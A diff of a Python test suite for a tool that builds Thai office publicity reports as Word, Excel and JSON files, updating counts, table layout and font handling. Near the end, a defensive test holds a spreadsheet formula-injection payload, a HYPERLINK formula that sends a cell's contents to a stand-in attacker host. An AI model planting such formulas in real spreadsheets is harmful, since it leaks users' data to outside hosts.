@@ -52,19 +52,20 @@ def _report(round_number: int = 1, *, key: str = "finance", name: str = "กล�
     months = (11, 12, 1) if round_number == 1 else (5, 6, 7)
     items = (
         ReportItem(published_on=date(year, months[0], 5), title="ประกาศรับสมัครโครงการตัวอย่าง",
-                   channels=frozenset({"website"}), origin="bridge", outcome="ผู้สนใจทราบกำหนดการ"),
+                   channels=frozenset({"website"}), origin="bridge", outcome="ผู้สนใจทราบกำหนดการ",
+                   ref="request:pr-sample-1"),
         ReportItem(published_on=date(year, months[1], 12), title="ภาพกิจกรรมอบรมสมมติ",
-                   channels=frozenset({"social", "board"}), origin="manual"),
+                   channels=frozenset({"social", "board"}), origin="manual", ref="manual:1"),
         ReportItem(published_on=date(year + (round_number == 1), months[2], 20), title="ปิดประกาศตารางเวรสมมติ",
-                   channels=frozenset({"board"}), origin="manual", outcome="บุคลากรรับทราบ"),
+                   channels=frozenset({"board"}), origin="manual", outcome="บุคลากรรับทราบ", ref="manual:2"),
         ReportItem(published_on=date(year + (round_number == 1), months[2], 31), title="โพสต์อื่นบนเว็บไซต์",
-                   channels=frozenset({"website"}), origin="site", count=3),
+                   channels=frozenset({"website"}), origin="site", ref="post:41"),
     )
     counts: dict[str, dict[str, int]] = {}
     for item in items:
         month = counts.setdefault(item.published_on.strftime("%Y-%m"), dict.fromkeys(CHANNELS, 0))
         for channel in item.channels:
-            month[channel] += item.count
+            month[channel] += 1
     first, last = (date(2023, 10, 1), date(2024, 3, 31)) if round_number == 1 else (date(2024, 4, 1),
                                                                                      date(2024, 9, 30))
     name_, position = reporter or (None, None)
@@ -77,7 +78,7 @@ def _summary() -> OfficeSummary:
     return OfficeSummary(fiscal_year=2567, round=1, first_day=date(2023, 10, 1), last_day=date(2024, 3, 31), rows=(
         SummaryRow(group_key="finance", group_name="กลุ่มทดสอบการเงิน", website=4, social=1, board=2),
         SummaryRow(group_key="policy", group_name="กลุ่มทดสอบนโยบาย", website=12, social=0, board=3),
-    ))
+    ), items=18, website=15, social=1, board=5)
 
 
 def _docx(tmp_path: Path, report: GroupReport, digits: str = "thai") -> DocxDocument:
@@ -94,6 +95,13 @@ def _section_3(doc: DocxDocument) -> list[Paragraph]:
     start = next(i for i, p in enumerate(paragraphs) if p.text.startswith("๓. "))
     end = next(i for i, p in enumerate(paragraphs) if p.text.startswith("ลงชื่อ"))
     return paragraphs[start + 1:end]
+
+
+def _rows(doc: DocxDocument, first_table: int = 0) -> list[list[str]]:
+    """The form's table as a reader sees it: its last rows are a second table right after the
+    first (so LibreOffice keeps them with the signature), shown as one table by Word."""
+    tables = doc.tables[first_table:first_table + 2]
+    return [[cell.text for cell in row.cells] for table in tables for row in table.rows]
 
 
 def _all_text(doc: DocxDocument) -> str:
@@ -157,9 +165,9 @@ def test_docx_ticks_the_reported_round_only(tmp_path: Path, round_number: int, t
 
 def test_docx_table_has_two_header_rows_one_row_per_item_and_a_total(tmp_path: Path) -> None:
     doc = _docx(tmp_path, _report())
-    table = doc.tables[0]
-    rows = [[cell.text for cell in row.cells] for row in table.rows]
+    rows = _rows(doc)
 
+    assert len(doc.tables) == 2  # the last item row and the total are kept with what follows
     assert len(rows) == 2 + 4 + 1
     assert rows[0] == HEADER_TOP
     assert rows[1] == HEADER_BOTTOM
@@ -169,12 +177,13 @@ def test_docx_table_has_two_header_rows_one_row_per_item_and_a_total(tmp_path: P
         ["๓", "๒๐ ม.ค. ๖๗", "ปิดประกาศตารางเวรสมมติ", "", "✓", "บุคลากรรับทราบ"],
         ["๔", "๓๑ ม.ค. ๖๗", "โพสต์อื่นบนเว็บไซต์", "✓", "", ""],
     ]
-    # online: 1 + 1 + 3 (the site row stands for three posts); board: 2; all: 1 + 1 + 1 + 3
-    assert rows[6] == ["รวม", "รวม", "รวม", "๕", "๒", "รวมทั้งสิ้น ๖ รายการ"]
+    # online: the website, social or both (3 rows); board: 2; all: 4 rows
+    assert rows[6] == ["รวม", "รวม", "รวม", "๓", "๒", "รวมทั้งสิ้น ๔ รายการ"]
 
 
 def test_docx_header_cells_are_merged_like_the_form(tmp_path: Path) -> None:
-    table = _docx(tmp_path, _report()).tables[0]
+    doc = _docx(tmp_path, _report())
+    table = doc.tables[0]
     top, bottom = table.rows[0]._tr.tc_lst, table.rows[1]._tr.tc_lst
 
     # row 1: ลำดับ, ว/ด/ป, เรื่อง start a vertical merge, ช่องทางเผยแพร่ spans two columns, ผลลัพธ์ merges down
@@ -182,12 +191,12 @@ def test_docx_header_cells_are_merged_like_the_form(tmp_path: Path) -> None:
     assert [tc.grid_span for tc in top] == [1, 1, 1, 2, 1]
     assert [tc.vMerge for tc in bottom] == ["continue", "continue", "continue", None, None, "continue"]
     # the total row's label spans ลำดับ, ว/ด/ป and เรื่องที่เผยแพร่
-    assert [tc.grid_span for tc in table.rows[-1]._tr.tc_lst] == [3, 1, 1, 1]
+    assert [tc.grid_span for tc in doc.tables[1].rows[-1]._tr.tc_lst] == [3, 1, 1, 1]
 
 
 def test_docx_with_no_items_has_only_headers_and_a_zero_total(tmp_path: Path) -> None:
     empty = _report().model_copy(update={"items": (), "counts": {}})
-    rows = [[cell.text for cell in row.cells] for row in _docx(tmp_path, empty).tables[0].rows]
+    rows = _rows(_docx(tmp_path, empty))
 
     assert rows[2:] == [["รวม", "รวม", "รวม", "๐", "๐", "รวมทั้งสิ้น ๐ รายการ"]]
 
@@ -200,10 +209,10 @@ def test_docx_section_3_prints_the_problems(tmp_path: Path) -> None:
     assert [p.text for p in _section_3(doc)] == list(problems)
 
 
-def test_docx_section_3_without_problems_has_four_dotted_lines(tmp_path: Path) -> None:
+def test_docx_section_3_without_problems_has_three_dotted_lines(tmp_path: Path) -> None:
     lines = _section_3(_docx(tmp_path, _report()))
 
-    assert len(lines) == 4
+    assert len(lines) == 3
     for line in lines:
         [stop] = line.paragraph_format.tab_stops
         assert stop.leader == WD_TAB_LEADER.DOTS
@@ -229,21 +238,21 @@ def test_docx_thai_digits_leave_no_arabic_digit_in_generated_text(tmp_path: Path
 def test_docx_arabic_digits_when_asked(tmp_path: Path) -> None:
     doc = _docx(tmp_path, _report(), digits="arabic")
     texts = _texts(doc)
-    rows = [[cell.text for cell in row.cells] for row in doc.tables[0].rows]
+    rows = _rows(doc)
 
     assert "1. โปรดระบุรอบของการรายงานผล" in texts
     assert "☑ รอบ 6 เดือนแรก (1 ตุลาคม 2566 – 31 มีนาคม 2567)" in texts
     assert rows[2][:2] == ["1", "5 พ.ย. 66"]
-    assert rows[-1][3:] == ["5", "2", "รวมทั้งสิ้น 6 รายการ"]
+    assert rows[-1][3:] == ["3", "2", "รวมทั้งสิ้น 4 รายการ"]
     assert not THAI_DIGIT.search(_all_text(doc))
 
 
 def test_docx_keeps_digits_in_the_data_as_written(tmp_path: Path) -> None:
     item = ReportItem(published_on=date(2023, 11, 5), title="ประกาศฉบับที่ 3/2566", channels=frozenset({"website"}),
-                      origin="bridge")
+                      origin="bridge", ref="request:pr-sample-3")
     report = _report().model_copy(update={"items": (item,)})
 
-    assert _docx(tmp_path, report).tables[0].rows[2].cells[2].text == "ประกาศฉบับที่ 3/2566"
+    assert _rows(_docx(tmp_path, report))[2][2] == "ประกาศฉบับที่ 3/2566"
 
 
 def test_docx_is_a4_in_th_sarabun_new_with_thai_complex_script_settings(tmp_path: Path) -> None:
@@ -274,7 +283,8 @@ def test_xlsx_has_the_table_with_merged_headers(tmp_path: Path) -> None:
     merged = {str(r) for r in sheet.merged_cells.ranges}
 
     assert sheet.cell(3, 1).value == "กลุ่ม/หน่วย กลุ่มทดสอบการเงิน"
-    assert sheet.cell(4, 1).value == f"☑ {ROUND_1_THAI}"
+    assert sheet.cell(4, 1).value == "๑. โปรดระบุรอบของการรายงานผล"
+    assert sheet.cell(5, 1).value == f"☑ {ROUND_1_THAI}"
     assert values[0] == ["ลำดับ", "ว/ด/ป", "เรื่องที่เผยแพร่", "ช่องทางเผยแพร่", None,
                          "ผลลัพธ์หรือประโยชน์ที่เกิดจากการเผยแพร่"]
     assert values[1] == [None, None, None, "สื่อออนไลน์", "บอร์ด/แผ่นป้าย", None]
@@ -282,7 +292,7 @@ def test_xlsx_has_the_table_with_merged_headers(tmp_path: Path) -> None:
             f"F{top}:F{top + 1}", f"A{top + 6}:C{top + 6}"} <= merged
     assert values[2] == [1, "๕ พ.ย. ๖๖", "ประกาศรับสมัครโครงการตัวอย่าง", "✓", None, "ผู้สนใจทราบกำหนดการ"]
     assert values[3] == [2, "๑๒ ธ.ค. ๖๖", "ภาพกิจกรรมอบรมสมมติ", "✓", "✓", None]
-    assert values[6] == ["รวม", None, None, 5, 2, "รวมทั้งสิ้น ๖ รายการ"]
+    assert values[6] == ["รวม", None, None, 3, 2, "รวมทั้งสิ้น ๔ รายการ"]
 
 
 def test_xlsx_summary_has_counts_and_a_bar_chart(tmp_path: Path) -> None:
@@ -296,8 +306,10 @@ def test_xlsx_summary_has_counts_and_a_bar_chart(tmp_path: Path) -> None:
         ["ลำดับ", "กลุ่ม/หน่วย", "เว็บไซต์", "สื่อสังคมออนไลน์", "บอร์ด/ป้ายประชาสัมพันธ์", "รวม"],
         [1, "กลุ่มทดสอบการเงิน", 4, 1, 2, 7],
         [2, "กลุ่มทดสอบนโยบาย", 12, 0, 3, 15],
-        ["รวมทั้งสำนักงาน", None, 16, 1, 5, 22],
+        ["ผลรวมของทุกกลุ่ม", None, 16, 1, 5, 22],
     ]
+    # the office's own counts are of distinct items (a post under two groups once)
+    assert [c.value for c in sheet[top + 4]][:6] == ["รวมทั้งสำนักงาน (๑๘ เรื่อง ไม่นับซ้ำ)", None, 15, 1, 5, 21]
     [chart] = sheet._charts
     assert isinstance(chart, BarChart)
     assert len(chart.series) == 3
@@ -345,8 +357,8 @@ def test_json_round_trips_into_the_model_with_totals(tmp_path: Path) -> None:
 
     assert "กลุ่มทดสอบการเงิน" in raw  # ensure_ascii=False: Thai is readable in the file
     assert GroupReport.model_validate(data["report"]) == report
-    assert data["totals"] == {"items": 6, "online": 5, "board_column": 2, "all_channels": 7,
-                              "by_channel": {"website": 4, "social": 1, "board": 2}}
+    assert data["totals"] == {"items": 4, "online": 3, "board_column": 2, "all_channels": 5,
+                              "by_channel": {"website": 2, "social": 1, "board": 2}}
 
 
 def test_summary_json_round_trips(tmp_path: Path) -> None:
@@ -367,12 +379,13 @@ def _summary_docx(tmp_path: Path) -> DocxDocument:
 
 
 def _assert_summary_docx(doc: DocxDocument) -> None:
-    rows = [[cell.text for cell in row.cells] for row in doc.tables[0].rows]
+    rows = _rows(doc)
     assert rows[1] == ["ลำดับ", "กลุ่ม/หน่วย", "เว็บไซต์", "สื่อสังคมออนไลน์", "บอร์ด/ป้ายประชาสัมพันธ์", "รวม"]
     assert rows[2:] == [
         ["๑", "กลุ่มทดสอบการเงิน", "๔", "๑", "๒", "๗"],
         ["๒", "กลุ่มทดสอบนโยบาย", "๑๒", "๐", "๓", "๑๕"],
-        ["รวมทั้งสำนักงาน", "รวมทั้งสำนักงาน", "๑๖", "๑", "๕", "๒๒"],
+        ["ผลรวมของทุกกลุ่ม", "ผลรวมของทุกกลุ่ม", "๑๖", "๑", "๕", "๒๒"],
+        ["รวมทั้งสำนักงาน (๑๘ เรื่อง ไม่นับซ้ำ)", "รวมทั้งสำนักงาน (๑๘ เรื่อง ไม่นับซ้ำ)", "๑๕", "๑", "๕", "๒๑"],
     ]
     [chart] = doc.inline_shapes
     blip = chart._inline.graphic.graphicData.pic.blipFill.blip
@@ -389,12 +402,28 @@ def test_summary_docx_has_the_counts_table_and_the_chart(tmp_path: Path) -> None
     _assert_summary_docx(doc)
 
 
-def test_summary_docx_without_a_thai_font_still_has_the_chart(tmp_path: Path,
-                                                              monkeypatch: pytest.MonkeyPatch) -> None:
+def test_summary_chart_finds_a_thai_font_missing_from_matplotlibs_cache(tmp_path: Path,
+                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
+    # A font cache built before fonts-thai-tlwg was installed knows no Thai font.
+    from matplotlib import font_manager
+
+    thai = set(report_docx.THAI_CHART_FONTS)
+    stale = [entry for entry in font_manager.fontManager.ttflist if entry.name not in thai]
+    monkeypatch.setattr(font_manager.fontManager, "ttflist", stale)
+
+    font = report_docx.find_thai_font()
+    assert font in thai  # added from the font's file, without rebuilding the cache
+    _assert_summary_docx(_summary_docx(tmp_path))
+
+
+def test_summary_chart_without_any_thai_font_is_refused_not_drawn_in_english(tmp_path: Path,
+                                                                             monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(report_docx, "THAI_CHART_FONTS", ("No Such Font For Tests",))
 
     assert report_docx.find_thai_font() is None
-    _assert_summary_docx(_summary_docx(tmp_path))
+    with pytest.raises(ValueError, match="no Thai font for the summary chart: install fonts-thai-tlwg"):
+        _summary_docx(tmp_path)
+    assert not list(tmp_path.iterdir())  # nothing half-written
 
 
 # --- request text never becomes a spreadsheet formula -------------------------------------------
@@ -405,7 +434,7 @@ HOSTILE_TITLES = ['=HYPERLINK("http://attacker.example/?"&A1,"คลิก")', "
 
 def _hostile_report() -> GroupReport:
     items = tuple(ReportItem(published_on=date(2023, 11, day), title=title, channels=frozenset({"website"}),
-                             origin="bridge", outcome="=1+1")
+                             origin="bridge", outcome="=1+1", ref=f"request:pr-hostile-{day}")
                   for day, title in enumerate(HOSTILE_TITLES, 1))
     return GroupReport(fiscal_year=2567, round=1, first_day=date(2023, 10, 1), last_day=date(2024, 3, 31),
                        group_key="finance", group_name="=กลุ่ม", items=items, counts={}, problems=())
